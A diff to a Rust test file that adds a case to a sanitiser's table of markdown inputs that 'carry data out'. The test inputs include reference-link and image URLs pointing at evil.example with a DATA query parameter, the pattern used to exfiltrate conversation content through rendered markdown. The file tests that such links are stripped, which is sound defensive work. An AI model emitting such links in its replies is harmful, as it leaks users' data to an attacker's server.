@@ -200,6 +200,10 @@ fn n1_4_addresses_that_run_are_neutralised_wherever_markdown_takes_one() {
 /// What carries data out, and what is left of it.
 const CARRIED: &[(&str, &str)] = &[
     (
+        "![b]: x\n\n[b]: https://evil.example/?q=DATA",
+        "![b]: x\n\n[b] : [link removed: evil.example]",
+    ),
+    (
         "![logo](https://evil.example/a.png?q=DATA)",
         "logo [image removed: evil.example]",
     ),
